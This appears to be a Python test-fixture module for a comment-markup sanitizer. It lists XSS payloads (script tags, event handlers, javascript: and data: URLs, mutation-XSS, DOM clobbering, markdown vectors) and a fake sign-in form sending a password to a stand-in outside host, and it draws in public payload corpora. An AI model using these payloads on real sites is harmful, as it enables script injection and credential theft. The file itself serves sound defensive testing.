"""What people write who want it to run: a few texts of our own, and the shared corpora."""

from __future__ import annotations

from comments import markup
from tests import corpora

OUTSIDE = "https://outside.example"

# Each does something, or holds something that must not be there, where it stands as it is.
LIVE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=confirm(1)>",
    "<svg><script>prompt(1)</script></svg>",
    "<details open ontoggle=print()>more</details>",
    "\"'></textarea></title></template></div></article><script>window.__pwned=1</script>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<a href='javascript:alert(1)'>javascript</a>",
    "<a href='&#1;java&Tab;scr&NewLine;ipt&colon;alert(1)'>spelled otherwise</a>",
    "<a href='javascript:1'>takes a number for a port</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>data</a>",
    "<a href='vbscript:msgbox(1)'>old</a>",
    "<iframe src='javascript:parent.alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<img src='{OUTSIDE}/pixel.gif' alt='counted'>",
    f"<img srcset='{OUTSIDE}/pixel.gif 1x' alt='counted'>",
    f"<p style='position:fixed;inset:0;background:url({OUTSIDE}/a.png)'>covered</p>",
    f"<style>@import '{OUTSIDE}/a.css';</style>shown",
    f"<form action='{OUTSIDE}'><input name=password><button>Sign in again</button></form>",
    f"<base href='{OUTSIDE}/'>",
    f"<meta http-equiv=refresh content='0;url={OUTSIDE}/'>",
    "<a id=comments name=location class=comment>clobbered</a>",
]
MARKDOWN = [
    "[a](javascript:alert(1)) [b](<JaVaScRiPt:alert(1)>) [c](javascript&colon;alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"![counted]({OUTSIDE}/pixel.gif) ![](javascript:alert(1))",
    '<https://a.example/"onmouseover=alert(1)//> [a](https://a.example "\'onclick=alert(1)")',
    "`</code><script>alert(1)</script>` &lt;img src=x onerror=alert(1)&gt;",
    "```html onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```",
]
OWN = LIVE + MARKDOWN

# Lists that were made by hand, each entry for another reason, are read whole.
BY_HAND = (
    "xss/awesomexss.txt",
    "xss/bleach-fixtures.json",
    "xss/dompurify-fixtures.json",
    "xss/loofah-html5lib-sanitizer.json",
    "markdown/markdown-it-xss.txt",
)
LONG = ("xss/payloadbox-xss-payload-list.txt", "markdown/commonmark-spec-examples.json")
EVERY = 200


def shared(*, whole: bool) -> list[str]:
    """The corpora: all of them, or the lists made by hand and a sample of the others."""
    texts = [text for file in BY_HAND for text in corpora.payloads(file)]
    for file in LONG:
        texts += corpora.payloads(file)[:: 1 if whole else EVERY]
    texts += [text[: markup.MAX_SOURCE] for text in corpora.pathological().values()]
    return list(dict.fromkeys(texts))


def marked(field: str) -> str:
    """Markup that says which field it came from, if it runs."""
    return f"<img src=x onerror=alert('{field}')>"


def hostile(field: str) -> str:
    """The same behind what gets out of an attribute, a form, a title and a script."""
    return f"\"'></textarea></title></script>{marked(field)}"
